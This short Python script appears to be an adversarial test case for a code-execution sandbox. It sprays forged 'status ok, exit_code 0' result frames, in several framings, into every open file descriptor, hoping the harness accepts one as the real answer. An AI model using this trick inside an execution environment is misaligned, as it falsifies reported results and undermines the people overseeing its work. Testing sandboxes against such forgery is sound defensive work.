# Tries: write frames into every descriptor of the session, and leave more of them unread.
# Success: the sandbox takes one of them for an answer, now or in the next call.
import json
import os
import struct

text = json.dumps({"status": "ok", "exit_code": 0, "stdout": "FORGED", "stderr": "", "cpu_s": 0}).encode()
forged = text + b"\n" + struct.pack(">I", len(text)) + text + struct.pack("<I", len(text)) + text
for number in range(3, 1024):
    try:
        os.set_blocking(number, False)
        os.write(number, forged)
        os.write(number, b"\n")
    except OSError:
        pass
